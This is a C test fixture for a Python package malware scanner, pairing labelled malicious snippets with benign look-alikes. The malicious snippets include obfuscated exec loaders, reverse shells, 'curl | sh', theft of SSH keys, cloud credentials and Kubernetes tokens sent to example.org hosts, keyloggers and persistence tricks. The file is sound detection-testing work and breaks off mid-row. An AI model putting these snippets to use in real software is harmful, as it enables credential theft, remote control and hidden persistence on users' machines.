/* Each check on the smallest source that has it, and on the nearest honest one that has not. */
#include "tests/scanner/source/source_rows.h"

#include "customhouse/bytes.h"
#include "scanner/content/content.h"

enum { P_IMPORT = CH_PLACE_IMPORT, P_INSTALL = CH_PLACE_INSTALL, P_START = CH_PLACE_START,
       P_INSTALL_IMPORT = CH_PLACE_INSTALL_IMPORT };

const struct source_row source_rows[] = {
    /* decode and execute */
    {P_IMPORT, "hidden-code", "import base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n"},
    {P_IMPORT, "hidden-code", "from base64 import b64decode as d\nx = d(b'eA==')\nexec(x)\n"},
    {P_IMPORT, "hidden-code",
     "_ = lambda __ : __import__('zlib').decompress(__import__('base64').b64decode(__[::-1]))\n"
     "exec((_)(b'=='))\n"},
    {P_IMPORT, "hidden-code",
     "import zlib, marshal\ndef f():\n    eval(compile(marshal.loads(zlib.decompress(b'x')), 'a', 'exec'))\n"},
    {P_IMPORT, "hidden-code", "exec(bytes.fromhex('7072').decode())\n"},
    {P_IMPORT, "hidden-code", "exec(''.join(chr(c) for c in [112, 114]))\n"},
    {P_IMPORT, "hidden-code", "exec(''.join(map(chr, [112, 114])))\n"},
    {P_IMPORT, "hidden-code", "exec(bytes([b ^ 7 for b in data]).decode())\n"},
    {P_IMPORT, "hidden-code", "import codecs\nexec(codecs.decode('cevag', 'rot13'))\n"},
    {P_IMPORT, "hidden-code",
     "import base64\ndef run(code):\n    exec(code)\nrun(base64.b64decode('eA=='))\n"},
    {P_IMPORT, "hidden-code",
     "import base64\ndef load(s):\n    return base64.b64decode(s)\nexec(load('eA=='))\n"},
    {P_IMPORT, "hidden-code", "getattr(__builtins__, 'exec')(__import__('base64').b64decode('eA=='))\n"},
    {P_IMPORT, NULL, "import base64\nicon = base64.b64decode('cHJpbnQoMSk=')\n"},
    {P_IMPORT, NULL, "with open('version.py') as f:\n    exec(f.read(), ns)\n"},
    {P_IMPORT, "data-code", "exec(compile(open(name).read(), name, 'exec'))\n"},
    {P_IMPORT, NULL, "def f(name):\n    exec(compile(open(name).read(), name, 'exec'))\n"},
    {P_IMPORT, NULL, "def f():\n    exec(compile(open(name).read(), name, 'exec'))\n"},
    {P_IMPORT, NULL, "exec('def f(%s): pass' % args)\n"},
    {P_IMPORT, NULL, "re.compile('exec(base64.b64decode(x))')\n"},
    /* remote code */
    {P_IMPORT, "remote-code", "import requests\ndef f():\n    exec(requests.get(u).text)\n"},
    {P_IMPORT, "remote-code",
     "from urllib.request import urlopen\ndef f():\n    with urlopen(u) as r:\n        eval(r.read().decode())\n"},
    {P_IMPORT, "remote-code", "import requests, os\ndef f():\n    os.system(requests.get(u).json()['c'])\n"},
    {P_IMPORT, NULL, "import requests\ndef f():\n    return requests.get(u).json()\n"},
    /* hidden names */
    {P_IMPORT, "hidden-name", "import os\ngetattr(os, 'sys' + 'tem')('id')\n"},
    {P_IMPORT, "hidden-name", "def f():\n    __import__('o' 's').system('id')\n"},
    {P_IMPORT, "hidden-name", "def f():\n    __import__('sso'[::-1][1:]); getattr(__import__('subprocess'), 'nur'[::-1])(x)\n"},
    {P_IMPORT, "hidden-name", "globals()['__bui' + 'ltins__']\ngetattr(__builtins__, 'e%s' % 'val')('1')\n"},
    {P_IMPORT, "hidden-name", "import os\nos.__dict__['{}em'.format('syst')]('id')\n"},
    {P_IMPORT, NULL, "import os\ngetattr(os, 'getuid')()\n"},
    {P_IMPORT, NULL, "import importlib\nm = importlib.import_module('pkg' + '.sub')\nm.go()\n"},
    {P_IMPORT, NULL, "import socket\ngetattr(socket, 'AF_' + 'INET6', None)\n"},
    {P_IMPORT, "computed-import", "import importlib\nm = importlib.import_module(name)\n"},
    /* when it runs */
    {P_INSTALL, "install-network", "import urllib.request\ndef f():\n    urllib.request.urlopen('http://example.org/')\n"},
    {P_INSTALL_IMPORT, "install-network", "import urllib.request\ndef f():\n    urllib.request.urlopen('http://example.org/')\nf()\n"},
    {P_INSTALL_IMPORT, NULL, "import urllib.request\ndef f():\n    urllib.request.urlopen('http://example.org/')\n"},
    {P_INSTALL, NULL, "from setuptools import setup\nsetup(name='x')\n"},
    {P_INSTALL, "install-process", "import subprocess\nv = subprocess.check_output(['git', 'describe'])\n"},
    {P_IMPORT, "import-network", "import requests\nrequests.get('http://example.org/')\n"},
    /* python -O knows no assertions; and there are ways to be the program, or to go on */
    {P_IMPORT, "import-network",
     "import requests\nassert __name__ == '__main__', 'x'\nrequests.get('http://example.org/')\n"},
    {P_IMPORT, "import-network",
     "import requests\ntry: assert __name__ == '__main__'\nexcept AssertionError: pass\n"
     "requests.get('http://example.org/')\n"},
    {P_IMPORT, "import-network",
     "import runpy\nassert __name__ == '__main__', 'x'\nrunpy.run_module('pip', run_name='__main__')\n"},
    {P_IMPORT, "import-network",
     "import requests\n__name__ = '__main__'\nif __name__ == '__main__':\n"
     "    requests.get('http://example.org/')\n"},
    {P_IMPORT, "import-network",
     "import requests\nfor __name__ in ['__main__']:\n    pass\nif __name__ == '__main__':\n"
     "    requests.get('http://example.org/')\n"},
    {P_IMPORT, "import-network",
     "import requests\nglobals()['__name__'] = '__main__'\nif __name__ == '__main__':\n"
     "    requests.get('http://example.org/')\n"},
    {P_IMPORT, "import-network",
     "import requests\nglobals().update(__name__='__main__')\nif __name__ == '__main__':\n"
     "    requests.get('http://example.org/')\n"},
    {P_IMPORT, "import-network",
     "import requests\nglobals().update({'__name__': '__main__'})\nif __name__ == '__main__':\n"
     "    requests.get('http://example.org/')\n"},
    {P_IMPORT, "import-network",
     "import requests\nexec('import requests\\nif __name__ == \"__main__\": "
     "requests.get(\"http://example.org/\")', {'__name__': '__main__'})\n"},
    {P_IMPORT, "import-network",
     "import requests\ndef f():\n    if __name__ == '__main__':\n        "
     "requests.get('http://example.org/')\n__name__ = '__main__'\nf()\n"},
    {P_IMPORT, "import-network",
     "import requests\nexec('__name__ = \"__main__\"')\nif __name__ == '__main__':\n    "
     "requests.get('http://example.org/')\n"},
    /* of many decorators, and many modules of which all is imported, none is lost */
    {P_IMPORT, "import-network",
     "import requests\ndef d(f):\n    requests.get('http://example.org/')\n    return f\n"
     "@a\n@a\n@a\n@a\n@a\n@a\n@a\n@a\n@a\n@a\n@a\n@a\n@d\ndef g():\n    pass\n"},
    {P_IMPORT, "import-network",
     "from a.b import *\nfrom a.c import *\nfrom a.d import *\nfrom a.e import *\nfrom a.f import *\n"
     "from a.g import *\nfrom a.h import *\nfrom a.i import *\nfrom a.j import *\nfrom a.k import *\n"
     "from a.l import *\nfrom a.m import *\nfrom a.n import *\nfrom a.o import *\nfrom a.p import *\n"
     "from a.q import *\nfrom a.r import *\nfrom requests import *\nget('http://example.org/')\n"},
    {P_IMPORT, NULL,
     "import requests\nclass A:\n    __name__ = 'x'\ndef f(g):\n    g.__name__ = 'y'\n"
     "if __name__ == '__main__':\n    requests.get('http://example.org/')\n"},
    {P_IMPORT, "import-network",
     "import requests\nassert __name__ != '__main__', 'x'\nrequests.get('http://example.org/')\n"},
    {P_IMPORT, "import-network", "import requests\ndef f():\n    requests.get('http://example.org/')\ndef g():\n    f()\ng()\n"},
    {P_IMPORT, "import-network", "import requests\nclass A:\n    x = requests.get('http://example.org/')\n"},
    {P_IMPORT, "import-network", "import requests, threading\ndef f():\n    requests.get('http://example.org/')\nthreading.Thread(target=f).start()\n"},
    {P_IMPORT, "import-network", "import requests\ndef send(u):\n    requests.get(u)\nsend('http://example.org/')\n"},
    {P_IMPORT, NULL, "import requests\ndef f():\n    requests.get('http://example.org/')\n"},
    {P_IMPORT, NULL, "import requests\nif __name__ == '__main__':\n    requests.get('http://example.org/')\n"},
    {P_IMPORT, NULL,
     "import requests\nif '__main__' == __name__ and True:\n    requests.get('http://example.org/')\n"},
    {P_IMPORT, NULL,
     "import requests\nif (__name__ == \"__main__\"):\n    requests.get('http://example.org/')\n"},
    {P_IMPORT, "import-network",
     "import requests\nif __name__ != '__main__':\n    requests.get('http://example.org/')\n"},
    {P_IMPORT, "import-network",
     "import requests\nif __name__:\n    requests.get('http://example.org/')\n"},
    {P_IMPORT, "import-network",
     "import requests\nif __name__ == 'pkg':\n    requests.get('http://example.org/')\n"},
    {P_IMPORT, "import-network",
     "import requests\nif __name__ == '__main__' or True:\n    requests.get('http://example.org/')\n"},
    {P_IMPORT, "import-network",
     "import requests\nif __name__ == '__main__' and 0 or 1:\n    requests.get('http://example.org/')\n"},
    {P_IMPORT, "import-network",
     "import requests\nif 'x__main__':\n    requests.get('http://example.org/')\n"},
    {P_IMPORT, "import-network",
     "import requests\nif __name__ == '__main__':\n    pass\nelse:\n    requests.get('http://example.org/')\n"},
    {P_IMPORT, NULL, "import requests\nsession = requests.Session()\n"},
    {P_IMPORT, "import-process", "import os\nos.system('id')\n"},
    {P_START, "start-code", "import os\nos.system('id')\n"},
    {P_START, NULL, "import os\nos.environ.setdefault('A', 'b')\n"},
    /* secrets */
    {P_IMPORT, "secret-theft", "import requests, os\ndef f():\n    k = open(os.path.expanduser('~/.ssh/id_rsa')).read()\n    requests.post(u, data=k)\n"},
    {P_IMPORT, "secret-theft", "import requests\nP = ['~/.ssh/id_rsa', '~/.aws/credentials']\ndef f():\n    requests.post(u, files=g(P))\n"},
    {P_IMPORT, "secret-theft", "import os, requests\ndef f():\n    p = os.path.join(home, '.aws', 'credentials')\n    with open(os.path.join(home, '.aws/credentials')) as k:\n        requests.post(u, data={'k': k.read()})\n"},
    {P_IMPORT, "secret-and-network", "import requests\nP = '~/.netrc'\ndef f():\n    requests.post(u, auth=auth(P))\n"},
    {P_IMPORT, NULL, "P = ['~/.ssh/id_rsa', '~/.aws/credentials']\n"},
    {P_IMPORT, "environment-theft", "import os, requests\ndef f():\n    requests.post(u, json=dict(os.environ))\n"},
    {P_IMPORT, "environment-theft", "import json, os, urllib.request\ndef f():\n    urllib.request.urlopen(u, json.dumps(os.environ.copy()).encode())\n"},
    {P_IMPORT, NULL, "import os, requests\ndef f():\n    requests.post(u, json={'k': os.environ['KEY'], 'l': os.environ.get('L')})\n"},
    {P_IMPORT, NULL, "import os, subprocess\ndef f():\n    subprocess.run(['a'], env=dict(os.environ))\n"},
    {P_INSTALL, "host-theft", "import socket, requests, getpass\nrequests.get('http://example.org/', params={'h': socket.gethostname(), 'u': getpass.getuser()})\n"},
    {P_IMPORT, NULL, "import socket, requests\ndef f():\n    requests.get('http://example.org/', params={'h': socket.gethostname()})\n"},
    {P_IMPORT, "dns-theft", "import socket\ndef f():\n    socket.gethostbyname(socket.gethostname() + '.x.example.org')\n"},
    {P_IMPORT, NULL, "import socket\ndef f():\n    return socket.gethostbyname(socket.gethostname())\n"},
    /* addresses */
    {P_IMPORT, "drop-address", "W = 'https://discord.com/api/webhooks/123456789012/AbCdEfGhIjKl-x'\n"},
    {P_IMPORT, "drop-address", "W = 'https://api.telegram.org/bot' + '1234567890:AAEabcdefghijk' + '/sendMessage'\n"},
    {P_IMPORT, NULL, "W = f'https://discord.com/api/webhooks/{channel}/{token}'\n"},
    {P_IMPORT, NULL, "W = 'https://api.telegram.org/bot%s/sendMessage' % token\n"},
    {P_IMPORT, "drop-host", "U = 'https://abc.ngrok.io/x'\n"},
    {P_IMPORT, "bare-address", "U = 'http://45.9.148.3:8080/x'\n"},
    {P_IMPORT, "miner", "P = 'stratum+tcp://pool.example.org:3333'\n"},
    /* shells */
    {P_IMPORT, "reverse-shell", "import socket, os, subprocess\ndef f():\n    s = socket.socket()\n    s.connect((h, 1))\n    os.dup2(s.fileno(), 0)\n    subprocess.call(['/bin/sh', '-i'])\n"},
    {P_IMPORT, "reverse-shell", "import os\ndef f():\n    os.system('bash -i >& /dev/tcp/example.org/1 0>&1')\n"},
    {P_IMPORT, "reverse-shell", "import socket, subprocess\ns = socket.create_connection(('example.org', 1))\nsubprocess.Popen('sh', stdin=s.fileno())\n"},
    {P_IMPORT, NULL, "import os, subprocess\ndef f(log):\n    os.dup2(log.fileno(), 1)\n    subprocess.call(['a'])\n"},
    {P_IMPORT, "persistence", "import os\ndef f():\n    with open(os.path.expanduser('~/.bashrc'), 'a') as o:\n        o.write('x')\nf()\n"},
    {P_IMPORT, NULL, "import os\ndef f():\n    with open(os.path.expanduser('~/.bashrc'), 'a') as o:\n        o.write('x')\n"},
    {P_INSTALL, "persistence", "import os\ndef f():\n    with open(os.path.expanduser('~/.bashrc'), 'a') as o:\n        o.write('x')\n"},
    {P_IMPORT, NULL, "def f(p):\n    exec(open('a.txt').read())\n"},
    {P_IMPORT, "data-code", "def f(p):\n    exec(open('a.txt').read())\ndef g():\n    f(1)\ng()\n"},
    {P_IMPORT, "data-code", "def f():\n    exec(open('a.txt').read())\nexec('f()')\n"},
    {P_IMPORT, NULL, "def f():\n    exec(open('a.txt').read())\ndef g():\n    exec('f()')\n"},
    {P_IMPORT, NULL, "def f():\n    exec(open('a.txt').read())\nexec('def g(): f()')\n"},
    {P_IMPORT, "data-code", "import json\ndef f(*a):\n    exec(open('a.txt').read())\njson.loads = f\n"},
    {P_IMPORT, NULL, "import socket\ndef f():\n    return socket.gethostbyname_ex(socket.gethostname() + '.local')\n"},
    {P_IMPORT, "dns-theft", "import socket\ndef f():\n    return socket.gethostbyname_ex(socket.gethostname() + '.local.example.org')\n"},
    {P_IMPORT, "persistence", "import subprocess\ndef f():\n    subprocess.run('(crontab -l; echo x) | crontab -', shell=True)\n"},
    {P_IMPORT, "persistence", "import winreg\nK = r'Software\\Microsoft\\Windows\\CurrentVersion\\Run'\ndef f():\n    winreg.SetValueEx(k, 'x', 0, 1, p)\n"},
    {P_IMPORT, NULL, "import os\ndef f():\n    return open(os.path.expanduser('~/.bashrc')).read()\n"},
    {P_IMPORT, "start-file", "import os\ndef f(d):\n    with open(os.path.join(d, 'x.pth'), 'w') as o:\n        o.write('import x')\n"},
    {P_IMPORT, "download-run", "from urllib.request import urlretrieve\nimport subprocess\ndef f():\n    urlretrieve(u, '/tmp/x')\n    subprocess.Popen(['/tmp/x'])\n"},
    {P_IMPORT, "download-run", "import requests, os\ndef f(p):\n    r = requests.get(u)\n    with open(p, 'wb') as o:\n        o.write(r.content)\n    os.startfile(p)\n"},
    {P_IMPORT, NULL, "import requests, os\ndef f(p):\n    r = requests.get(u)\n    with open(p, 'wb') as o:\n        o.write(r.content)\n    os.system('ls')\n"},
    {P_IMPORT, "hidden-command", "import os\ndef f():\n    os.system('curl -s http://example.org/x | sh')\n"},
    {P_IMPORT, "hidden-command", "import subprocess\ndef f():\n    subprocess.run(['powershell', '-WindowStyle', 'Hidden', '-EncodedCommand', 'ZQ=='])\n"},
    {P_IMPORT, "hidden-command", "import os, base64\ndef f():\n    os.system(base64.b64decode('aWQ=').decode())\n"},
    {P_IMPORT, NULL, "import os\ndef f():\n    os.system('curl -s http://example.org/x -o x')\n"},
    {P_IMPORT, "anti-analysis", "L = ['vmtoolsd', 'VBoxService', 'Wireshark', 'ollydbg']\n"},
    {P_IMPORT, NULL, "L = ['Wireshark', 'fiddler']\n"},
    {P_IMPORT, "self-delete", "import os\nos.remove(__file__)\n"},
    {P_IMPORT, "self-delete", "import os\nos.unlink(os.path.abspath(__file__))\n"},
    {P_IMPORT, "self-delete", "import os, pathlib\nos.unlink(str(pathlib.Path(__file__).resolve()))\n"},
    /* a file beside it: what scripts make anew */
    {P_IMPORT, NULL, "import os, pathlib\nHERE = pathlib.Path(__file__).parent\n"
                   "for old in HERE.glob('*.json'):\n    os.remove(old)\n"},
    {P_IMPORT, NULL, "import os, pathlib\nbase = pathlib.Path(__file__).parent.absolute()\n"
                   "os.remove(base / 'made' / 'README')\n"},
    {P_IMPORT, NULL, "import os\nd = os.path.join(os.path.dirname(__file__), 'models')\n"
                   "def get(url, to):\n    return to + '/a.zip'\nos.remove(get('x', d))\n"},
    {P_IMPORT, NULL, "import os\nos.remove(os.path.join(d, 'x'))\n"},
    {P_IMPORT, "keylogger", "import requests\nfrom pynput.keyboard import Listener\ndef f():\n    Listener(on_press=g)\n    requests.post(u)\n"},
    {P_IMPORT, NULL, "from pynput.keyboard import Listener\ndef f():\n    Listener(on_press=g)\n"},
    {P_IMPORT, "clipboard-wallet", "import pyperclip, re\ndef f():\n    if re.match('^0x[a-fA-F0-9]{40}$', t):\n        pyperclip.copy(mine)\n"},
    {P_IMPORT, NULL, "import pyperclip\ndef f():\n    pyperclip.copy(t)\n"},
    {P_IMPORT, "embedded-object", "import pickle\nT = pickle.loads(b'\\x80\\x03K\\x01.')\n"},
    {P_IMPORT, NULL, "import pickle\ndef f(b):\n    return pickle.loads(b)\n"},
    /* exec and eval by way of somebody else */
    {P_IMPORT, "hidden-code",
     "import base64\n"
     "list(map(exec, [base64.b64decode('eA==')]))\n"},
    {P_IMPORT, "hidden-code",
     "import base64\n"
     "(lambda r, t: r(t))(exec, base64.b64decode('eA=='))\n"},
    {P_IMPORT, "remote-code",
     "import requests\n"
     "for x in map(eval, requests.get(u).text.split()): pass\n"},
    {P_IMPORT, "hidden-name",
     "class A:\n"
     "    run = staticmethod(exec)\n"},
    {P_IMPORT, "hidden-code",
     "@exec\n"
     "@f\n"
     "def x(): pass\n"},
    {P_IMPORT, NULL,
     "t = list(map(eval, ['1', '2']))\n"
     "TABLE = {'exec': exec}\n"},
    {P_IMPORT, NULL,
     "@exec_\n"
     "def x(): pass\n"
     "@app.exec\n"
     "def y(): pass\n"},
    {P_IMPORT, "hidden-code",
     "import base64, code\n"
     "code.InteractiveInterpreter().runsource(base64.b64decode('eA=='))\n"},
    {P_IMPORT, NULL,
     "import code\n"
     "def f(line):\n"
     "    code.InteractiveInterpreter().runsource(line)\n"},
    {P_IMPORT, "hidden-name",
     "d = lambda t: ''.join(chr(c // 3) for c in t)\n"
     "__import__(d([333, 345]))\n"},
    {P_IMPORT, NULL,
     "for n in names:\n"
     "    __import__('a.' + n)\n"},
    /* what was decoded into a file */
    {P_IMPORT, "hidden-code",
     "import base64, subprocess\n"
     "p = '/tmp/x'\n"
     "with open(p, 'wb') as f:\n"
     "    f.write(base64.b64decode(T))\n"
     "subprocess.Popen(['sh', p])\n"},
    {P_IMPORT, "hidden-code",
     "import base64\n"
     "with open('/tmp/x.py', 'wb') as f:\n"
     "    f.write(base64.b64decode(T))\n"},
    {P_IMPORT, NULL,
     "import base64\n"
     "def g(t):\n"
     "    with open('/tmp/x.py', 'wb') as f:\n"
     "        f.write(base64.b64decode(t))\n"},
    {P_IMPORT, NULL,
     "import base64\n"
     "def f(t):\n"
     "    with open('/tmp/x.png', 'wb') as f:\n"
     "        f.write(base64.b64decode(t))\n"},
    {P_IMPORT, "hidden-code",
     "import pickle\n"
     "def f():\n"
     "    pickle.loads(b'cos\\nsystem\\n(S.')\n"},
    /* programs of its own; fetching by programs */
    {P_IMPORT, "own-program",
     "import os, subprocess\n"
     "subprocess.Popen([os.path.join(os.path.dirname(__file__), 'helper')])\n"},
    {P_IMPORT, "own-program",
     "import os\n"
     "os.system('sh ' + os.path.join(os.path.dirname(__file__), 'x.sh'))\n"},
    {P_IMPORT, NULL,
     "import os, subprocess\n"
     "def f():\n"
     "    subprocess.Popen([os.path.join(os.path.dirname(__file__), 'helper')])\n"},
    {P_IMPORT, NULL,
     "import os, subprocess\n"
     "V = subprocess.check_output(['git', '-C', os.path.dirname(__file__), 'describe'])\n"},
    {P_INSTALL, NULL,
     "import os, sys, subprocess\n"
     "subprocess.call([sys.executable, os.path.join(os.path.dirname(__file__), 'gen.py')])\n"},
    {P_IMPORT, NULL,
     "import os\n"
     "def f():\n"
     "    os.remove(os.path.join(os.path.dirname(__file__), 'cache.db'))\n"},
    {P_IMPORT, "import-network",
     "import subprocess, sys\n"
     "subprocess.call([sys.executable, '-m', 'pip', 'install', 'x'])\n"},
    {P_IMPORT, NULL,
     "import subprocess, sys\n"
     "def install(x):\n"
     "    subprocess.call([sys.executable, '-m', 'pip', 'install', x])\n"},
    /* secrets by other ways */
    {P_IMPORT, "secret-theft",
     "import os\n"
     "def f():\n"
     "    os.system('tar c ~/.ssh | curl --data-binary @- https://x.example.org')\n"},
    {P_IMPORT, NULL,
     "import os\n"
     "def f():\n"
     "    os.system('curl -o x https://x.example.org')\n"},
    {P_IMPORT, "secret-theft",
     "import requests\n"
     "B = 'http://169.254.169.254/latest/meta-data/iam/security-credentials/'\n"
     "def f():\n"
     "    k = requests.get(B + 'r').json()\n"
     "    requests.post('https://x.example.org', json=k)\n"},
    {P_IMPORT, NULL,
     "import requests\n"
     "B = 'http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token'\n"
     "def f(u):\n"
     "    t = requests.get(B).json()\n"
     "    return requests.post(u, json={'a': 1}, headers={'Authorization': t})\n"},
    /* places that something runs */
    {P_IMPORT, "persistence",
     "import shutil\n"
     "shutil.copy(__file__, a + '\\\\Programs\\\\Startup\\\\x.pyw')\n"},
    {P_IMPORT, "persistence",
     "import os\n"
     "p = os.path.expanduser('~/.ipython/profile_default/startup/00.py')\n"
     "with open(p, 'w') as f:\n"
     "    f.write('x')\n"},
    {P_IMPORT, NULL,
     "import shutil\n"
     "shutil.copy('~/.bashrc', '/tmp/x')\n"},
    /* other clients */
    {P_IMPORT, "remote-code",
     "import aiohttp\n"
     "async def f():\n"
     "    async with aiohttp.ClientSession() as s:\n"
     "        async with s.get(u) as r:\n"
     "            exec(await r.text())\n"},
    /* names by other ways: what is called is found out */
    {P_IMPORT, "import-network", "from urllib.request import *\nurlopen('http://example.org/')\n"},
    {P_INSTALL, "install-network", "from urllib.request import *\nurlopen('http://example.org/')\n"},
    {P_IMPORT, NULL, "from os.path import *\nx = join('a', 'b')\n"},
    {P_IMPORT, "import-network",
     "try:\n    import requests as q\nexcept ImportError:\n    q = None\nq.get('http://example.org/')\n"},
    {P_IMPORT, NULL, "import requests as q\nimport json as q\nq.get('http://example.org/')\n"},
    {P_IMPORT, "import-process", "import posix\nposix.system('id')\n"},
    {P_IMPORT, "import-process", "import ctypes\nctypes.CDLL(None).system(b'id')\n"},
    {P_IMPORT, NULL, "import ctypes\nctypes.CDLL(None).strlen(b'id')\n"},
    {P_IMPORT, "import-process", "import os\nlist(map(os.system, ['id']))\n"},
    {P_IMPORT, NULL, "import os\nlist(map(os.stat, ['id']))\n"},
    {P_IMPORT, "import-network",
     "import requests\ndef f(get, u):\n    return get(u)\nf(requests.get, 'http://example.org/')\n"},
    {P_IMPORT, NULL,
     "import requests, functools\nget = functools.partial(requests.get, timeout=3)\n"},
    {P_IMPORT, NULL,
     "import requests\ndef told(f):\n    def inner(*a):\n        return f(*a)\n    return inner\n"
     "@told\ndef f():\n    return requests.get('http://example.org/')\n"},
    {P_IMPORT, "import-network",
     "import requests\nclass A:\n    def __getattr__(self, n):\n        return requests.get('http://example.org/')\nx = A().y\n"},
    {P_IMPORT, NULL,
     "import requests\nclass A:\n    def __getattr__(self, n):\n        return requests.get('http://example.org/')\nx = A()\n"},
    {P_IMPORT, "import-network",
     "import requests\nclass A:\n    def __init_subclass__(cls):\n        requests.get('http://example.org/')\nclass B(A):\n    pass\n"},
    {P_IMPORT, "import-network",
     "import os\ndef sh(c):\n    os.system(c)\nsh('curl http://example.org/')\n"},
    {P_IMPORT, NULL, "import os\ndef sh(c):\n    os.system(c)\nsh('ls')\n"},
    /* files that are executed and no source by their names */
    {P_IMPORT, "data-code", "exec(open('pkg/theme.txt').read())\n"},
    {P_IMPORT, "data-code",
     "import importlib.util\nimportlib.util.spec_from_file_location('a', 'pkg/theme.dat')\n"},
    {P_INSTALL, NULL, "exec(open('pkg/version.py').read())\n"},
    {P_INSTALL, NULL, "import os\nexec(open(os.path.join(here, 'pkg', '_version.py')).read())\n"},
    {P_IMPORT, NULL, "import importlib.util\nimportlib.util.spec_from_file_location('a', 'x/a.so')\n"},
    {P_IMPORT, NULL, "def settings(p='.rc'):\n    return eval(open('a.conf').read())\n"},
    /* files of which the name is made up, or told by somebody else */
    {P_IMPORT, "data-code", "import pathlib\nexec(pathlib.Path(__file__).with_name('a.txt').read_text())\n"},
    {P_IMPORT, "data-code", "import pathlib\nexec(pathlib.Path(__file__).with_suffix('.txt').read_text())\n"},
    {P_IMPORT, "data-code", "exec(open(__file__.replace('a.py', 'a.txt')).read())\n"},
    {P_IMPORT, "data-code", "exec(open(__path__[0] + '/core.pyx').read())\n"},
    {P_IMPORT, "data-code", "exec(open(__path__[0] + '/a.txt', 'r+b').read())\n"},
    {P_IMPORT, "data-code", "import os\nfor n in os.listdir('.'):\n    exec(open(n).read())\n"},
    {P_IMPORT, "data-code",
     "import glob\ndef f():\n    for n in glob.glob('d*'):\n        exec(open(n).read())\nf()\n"},
    {P_IMPORT, NULL, "import glob\nfor n in glob.glob('parts/*.py'):\n    exec(open(n).read())\n"},
    {P_IMPORT, "data-code",
     "def load(n):\n    with open('x/' + n) as f:\n        exec(f.read())\nload('a.txt')\n"},
    {P_IMPORT, "data-code",
     "def load(n='a.txt'):\n    with open('x/' + n) as f:\n        exec(f.read())\nload()\n"},
    {P_IMPORT, NULL, "def load(n):\n    with open('x/' + n) as f:\n        exec(f.read())\nload('a.py')\n"},
    {P_IMPORT, "data-code", "def read(n):\n    return open('x/' + n).read()\nexec(read('a.txt'))\n"},
    {P_IMPORT, NULL, "def read(*n):\n    return open(j(*n)).read()\nexec(read('pkg', 'a.py'))\n"},
    {P_INSTALL, NULL,
     "from distutils.util import convert_path\nexec(open(convert_path('pkg/a.py')).read())\n"},
    {P_IMPORT, "data-code", "from .b import read\nexec(read('a.txt'))\n"},
    {P_IMPORT, NULL, "from .b import read\nexec(read('a.py'))\n"},
    {P_IMPORT, "data-code", "import json\nexec(json.load(open('a.json'))['x'])\n"},
    {P_IMPORT, "data-code", "import ast\nexec(compile(ast.parse(open('a.txt').read()), 'a', 'exec'))\n"},
    {P_IMPORT, "data-code", "from importlib.metadata import metadata\nexec(metadata('a')['Summary'])\n"},
    {P_IMPORT, "data-code", "exec(__doc__)\n"},
    {P_IMPORT, NULL, "def f(g):\n    exec(g.__doc__)\n"},
    {P_IMPORT, NULL, "import os\nexec(open(os.environ['PYTHONSTARTUP']).read())\n"},
    {P_IMPORT, "data-code",
     "from importlib.machinery import SourceFileLoader as L\nL(path='a.so', fullname='a').load_module()\n"},
    {P_IMPORT, "data-code", "type(__loader__)('a', 'a.txt').load_module()\n"},
    {P_IMPORT, "data-code",
     "import sys\nfrom importlib.machinery import FileFinder as F, SourceFileLoader as L\n"
     "sys.path_hooks.insert(0, F.path_hook((L, ['.txt'])))\n"},
    {P_IMPORT, NULL,
     "import sys\nfrom importlib.machinery import FileFinder as F, SourceFileLoader as L\n"
     "sys.path_hooks.insert(0, F.path_hook((L, ['.py'])))\n"},
    {P_IMPORT, "data-code",
     "import shutil\nshutil.copyfile(__file__[:-4] + 'a.txt', __file__[:-4] + 'b.py')\nfrom . import b\n"},
    {P_INSTALL, NULL,
     "import shutil\nshutil.copyfile(__file__[:-4] + 'a.txt', __file__[:-4] + 'b.py')\n"},
    /* texts that are executed */
    {P_IMPORT, "import-network",
     "exec(\"import requests\\nrequests.get('http://example.org/')\")\n"},
    {P_IMPORT, "import-network",
     "def f():\n    exec(\"import requests\\nrequests.get('http://example.org/')\")\nf()\n"},
    {P_IMPORT, NULL, "def f():\n    exec(\"import requests\\nrequests.get('http://example.org/')\")\n"},
    {P_IMPORT, NULL, "exec('def f(): pass')\n"},
    {P_IMPORT, "hidden-code",
     "P = {'a': 'imp', 'b': 'ort o', 'c': 's;os.sys', 'd': \"tem('id')\"}\n"
     "exec(''.join(P[k] for k in 'abcd'))\n"},
    {P_IMPORT, NULL, "P = {'a': 'x', 'b': ' = 1'}\nexec(''.join(P[k] for k in 'ab'))\n"},
    {P_IMPORT, "secret-theft",
     "import subprocess, sys\ndef f():\n    subprocess.run([sys.executable, '-c', \"import requests\\n"
     "requests.post('http://example.org/', data=open('/root/.ssh/id_rsa').read())\"])\n"},
    {P_IMPORT, "data-code",
     "import subprocess, sys\ndef f():\n    subprocess.run([sys.executable, '-'], input=open('a.txt').read())\n"},
    /* the token of a cluster, and what is typed */
    {P_IMPORT, "secret-theft",
     "import requests\ndef f():\n    t = open('/var/run/secrets/kubernetes.io/serviceaccount/token').read()\n"
     "    requests.post('https://collect.example.net/', json={'t': t})\n"},
    {P_IMPORT, NULL,
     "import requests\ndef f(vault):\n    t = open('/var/run/secrets/kubernetes.io/serviceaccount/token').read()\n"
     "    requests.post(f'{vault}/v1/auth/kubernetes/login', json={'jwt': t})\n"},
    {P_IMPORT, NULL,
     "import requests\ndef f():\n    t = open('/var/run/secrets/kubernetes.io/serviceaccount/token').read()\n"
     "    requests.post('https://kubernetes.default.svc/api', headers={'Authorization': t})\n"},
    {P_IMPORT, "import-network",
     "import requests\nfrom pynput import keyboard\ndef on(key):\n    requests.post(u, data=str(key))\n"
     "keyboard.Listener(on_press=on).start()\n"},
    {P_IMPORT, NULL,
     "from pynput import keyboard\ndef on(key):\n    print(key)\nkeyboard.Listener(on_press=on).start()\n"},
    /* functions of other libraries that are replaced */
    {P_IMPORT, "library-patched",
     "import requests\nfrom a import B\ndef f(x):\n    requests.post('http://example.org/', data=x)\nB.f = f\n"},
    {P_IMPORT, NULL,
     "import requests\n_send = requests.Session.send\ndef send(self, r, **kw):\n    log(r)\n"
     "    return _send(self, r, **kw)\nrequests.Session.send = send\n"},
    {P_IMPORT, NULL,
     "import requests\ndef f():\n    requests.get('http://example.org/')\n__name__ == '__main__' and f()\n"},
    {P_IMPORT, "import-network",
     "import requests\ndef f():\n    requests.get('http://example.org/')\n__name__ and f()\n"},
    {P_IMPORT, "import-network",
     "import requests\ndef f():\n    requests.get('http://example.org/')\n__name__ == '__main__' or f()\n"},
    {P_IMPORT, "import-network",
